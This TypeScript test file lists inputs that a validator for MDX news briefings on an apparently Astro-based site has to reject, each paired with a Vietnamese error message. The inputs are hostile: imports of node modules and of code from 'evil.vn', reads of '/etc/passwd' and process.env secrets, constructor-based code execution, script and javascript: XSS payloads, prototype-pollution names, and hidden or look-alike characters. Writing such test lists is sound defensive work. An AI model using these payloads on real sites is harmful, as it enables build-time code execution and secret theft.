import { inBody, type Refused } from './case.ts';

const BRACES = 'Bản tin không dùng được dấu ngoặc nhọn { }.';
const UNREADABLE_BRACES = 'Dấu ngoặc nhọn { } có nghĩa riêng trong bản tin';
const MODULES = 'Bản tin không dùng được lệnh import hoặc export.';
const LIKE_MODULES = 'Dòng bắt đầu bằng “import” hoặc “export” bị hiểu là lệnh máy tính.';
const NOT_LITERAL = 'không có giá trị trong ngoặc kép';
const IN_TAG = 'dấu { } không dùng được trong thẻ.';

/** JavaScript that stock MDX would run in the build, wherever it may stand. */
const CODE = inBody(
  ['an import', "import fs from 'node:fs'", MODULES],
  ['an import for its effect', "import 'node:fs'", MODULES],
  ['an import of a data: module', 'import "data:text/javascript,globalThis.hostile=1"', MODULES],
  ['an import of another host', "import x from 'https://evil.vn/x.js'", MODULES],
  ['an import of a raw file', "import secret from '/etc/passwd?raw'", MODULES],
  ['an import in the middle of the text', "Một câu.\n\nimport 'node:fs'\n\nCâu nữa.", MODULES],
  ['an import attribute', 'import x from "./x.json" with { type: "json" }', LIKE_MODULES],
  ['an export that runs', 'export const x = (globalThis.hostile = 1)', MODULES],
  ['an export that is the layout', 'export default function Layout() { globalThis.hostile = 1 }', MODULES],
  ['an export of another module', "export * from 'node:process'", MODULES],
  ['frontmatter written as an export', 'export const frontmatter = { layout: "data:text/javascript,1" }', MODULES],
  ['pages of its own', 'export async function getStaticPaths() { return [] }', MODULES],
  ['top-level await', "export const x = await import('node:child_process')", MODULES],
  ['an export that cannot be read', 'export const x = {', LIKE_MODULES],
  ['a require', 'Một câu {require("node:fs")}', BRACES],
  ['an expression', '{globalThis.hostile = 1}', BRACES],
  ['an expression in a sentence', 'Giá {process.exit(1)} đồng', BRACES],
  ['a dynamic import', '{await import("node:fs")}', BRACES],
  ['a secret of the environment', 'Khóa: {process.env.HOSTILE_SECRET}', BRACES],
  ['a secret of Vite', 'Khóa: {import.meta.env.HOSTILE_SECRET}', BRACES],
  ['a function that is called', '{(() => { globalThis.hostile = 1 })()}', BRACES],
  ['a template string', '{`${globalThis.hostile = 1}`}', BRACES],
  ['a tag within an expression', '{<script>alert(1)</script>}', BRACES],
  ['an expression over several lines', 'Một câu {\n  globalThis.hostile\n  = 1\n}', BRACES],
  ['a comment', '{/* ẩn */}', BRACES],
  ['an empty expression', 'Một {} hai', BRACES],
  ['an expression in a heading', '## Tiêu đề {1}', BRACES],
  ['an expression in a list', '- mục {1}', BRACES],
  ['an expression in a quotation', '> lời {1}', BRACES],
  ['an expression in a table', '| a |\n|---|\n| {1} |', BRACES],
  ['an expression in bold', '**chữ {1}**', BRACES],
  ['an expression in a link’s text', '[chữ {1}](https://a.vn)', BRACES],
  ['an expression in a component', '<Note>\n\nchữ {1}\n\n</Note>', BRACES],
  ['the constructor’s constructor', '{constructor.constructor("globalThis.hostile=1")()}', BRACES],
  ['braces that do not close', 'Giá {100 đồng', UNREADABLE_BRACES],
  ['braces that close too late', 'Giá {"}" đồng', BRACES],
  ['braces that hold no JavaScript', 'Giá {100.000 đồng}', BRACES],
);

/** Expressions and directives on the components that a briefing may use. */
const ATTRIBUTES = inBody(
  ['an attribute that is an expression', '<Quote by={globalThis.hostile = 1}>lời</Quote>', NOT_LITERAL],
  ['an attribute that is a tag', '<Quote by=<b/>>lời</Quote>', 'phải đặt trong ngoặc kép thẳng'],
  ['an attribute that is a template string', '<Quote by={`An`}>lời</Quote>', NOT_LITERAL],
  ['an attribute without a value', '<Quote by>lời</Quote>', NOT_LITERAL],
  ['an attribute without quotes', '<Quote by=An>lời</Quote>', 'phải đặt trong ngoặc kép thẳng'],
  ['a spread', '<Note {...globalThis}>chữ</Note>', IN_TAG],
  ['a spread with a getter', '<Note {...{ get title() { return globalThis.hostile = 1 } }}>chữ</Note>', IN_TAG],
  ['a spread of the environment', '<Quote by="An" {...process.env}>lời</Quote>', IN_TAG],
  ['a comment in a tag', '<Note {/* x */}>chữ</Note>', BRACES],
  ...[
    'set:html="<script>alert(1)</script>"', 'set:text="x"', 'is:raw=""', 'is:inline=""', 'is:global=""', 'client:load=""', 'client:idle=""', 'client:visible=""', 'client:media="all"', 'client:only="react"',
    'server:defer=""', 'define:vars="x"', 'transition:name="x"', 'transition:persist=""', 'class:list="x"', 'slot="x"', 'style="position:fixed"', 'class="site-nav"', 'id="danh-sach"', 'name="location"', 'onclick="alert(1)"', 'onClick="alert(1)"',
    'onmouseover="alert(1)"', 'dangerouslySetInnerHTML="x"', 'innerHTML="x"', 'href="javascript:alert(1)"', 'xlink:href="javascript:alert(1)"', 'src="https://evil.vn/x"', 'srcdoc="x"', 'is="x"', 'key="x"', 'ref="x"', 'constructor="x"', '__proto__="x"', 'as="script"', 'data-astro-reload=""',
  ].map((attribute) => [`the attribute ${attribute}`, `<Note ${attribute}>chữ</Note>`, `Không có thuộc tính nào tên là “${attribute.split('=')[0] ?? ''}”`] as const),
  ['an attribute twice', '<Quote by="An" by="Ba">lời</Quote>', 'thuộc tính “by” được ghi hai lần'],
  ['define:vars with an object', '<Note define:vars={{ a: 1 }}>chữ</Note>', NOT_LITERAL],
);

/** Components that nobody gave to briefings, or that stand where they must not. */
const COMPONENTS = inBody(
  ...['Fragment', 'Astro.self', 'Layout', 'Image', 'Code', 'Debug', 'Component', 'a.b', 'Quote.by', 'this.x', 'globalThis.x', 'svg:script', 'x:y', 'constructor', 'toString', 'hasOwnProperty', 'quote', 'note', 'PHOTO', 'script-x', '$', '_'].map(
    (name) => [`the component <${name}>`, `<${name} />`, `Bản tin không dùng được thẻ <${name}>.`] as const,
  ),
  ['a fragment', '<>chữ</>', 'Bản tin không dùng được thẻ <>.'],
  ['<__proto__>', '<__proto__ />', 'Bản tin không dùng được thẻ <__proto__>.'],
  ['a fragment that sets HTML', '<Fragment set:html="<script>alert(1)</script>" />', 'Bản tin không dùng được thẻ <Fragment>.'],
  ['a component of a member’s name with an accent', '<Ảnh />', 'Bản tin không dùng được thẻ <Ảnh>.'],
  ['a component in a sentence', 'Câu <Note>chữ</Note> nữa', '<Note> phải đứng riêng một dòng.'],
  ['a component in a list', '- mục\n\n  <Note>chữ</Note>', '<Note> phải đứng riêng một dòng.'],
  ['a component in a quotation', '> <Note>chữ</Note>', '<Note> phải đứng riêng một dòng.'],
  ['a component in a heading', '## <Photo number="1" />', '<Photo> phải đứng riêng một dòng.'],
  ['a component in a table', '| a |\n|---|\n| <KeyFigures /> |', '<KeyFigures> phải đứng riêng một dòng.'],
  ['a component in a link', '[<Note>chữ</Note>](https://a.vn)', '<Note> phải đứng riêng một dòng.'],
  ['a photograph with text', '<Photo number="1">chữ</Photo>', '<Photo> không chứa chữ bên trong.'],
  ['a component in a photograph', '<Photo number="1">\n\n<Note>chữ</Note>\n\n</Photo>', '<Photo> không chứa chữ bên trong.'],
  ['a tag in a component', '<Note>\n\n<script>alert(1)</script>\n\n</Note>', 'Bản tin không dùng được thẻ <script>.'],
  ...['0', '-1', '01', '1e3', '1.5', '١', ' 1', '100', '99999999999999999999', 'NaN', '__proto__', '../1', '1;alert(1)'].map((number) => [`the photograph ${number}`, `<Photo number="${number}" />`, '<Photo>: Thứ tự của ảnh trong mục photos'] as const),
  ['a photograph that is not there', '<Photo number="1" />', 'Không có ảnh số 1'],
  ['figures that are not there', '<KeyFigures show="constructor" />', '<KeyFigures>: bản tin chưa khai số liệu nào.'],
  ['an attribute of 5,000 letters', `<Quote by="${'An '.repeat(1700)}">lời</Quote>`, 'Quá dài'],
  ['an attribute over several lines', '<Quote by="An\nBa">lời</Quote>', 'phải nằm trên một dòng'],
  ['an attribute with a hidden character', '<Quote by="An&#x202E;Ba">lời</Quote>', 'có ký tự ẩn'],
  ['an attribute with a look-alike', '<Quote by="&#x422;rung Anh">lời</Quote>', 'trông giống chữ Latinh'],
);

export const CODE_CASES: Refused[] = [...CODE, ...ATTRIBUTES, ...COMPONENTS];
